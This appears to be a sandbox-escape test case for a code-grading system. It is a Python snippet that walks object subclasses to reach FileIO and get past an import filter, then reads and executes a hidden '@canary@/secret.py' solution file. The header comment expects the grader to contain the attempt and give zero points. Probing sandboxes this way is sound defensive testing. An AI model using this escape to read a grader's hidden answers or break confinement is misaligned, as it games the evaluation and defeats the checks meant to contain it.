# D affine: reads the solution with modules and classes that a filter of imports forgets. expect: error not_implemented, 0 points; only confined; stolen in process
kinds = [object]
while kinds:
    kind = kinds.pop()
    kinds += type.__subclasses__(kind)
    if kind.__name__ == "FileIO":
        try:
            exec(kind("@canary@/secret.py").read())
        except OSError:
            pass
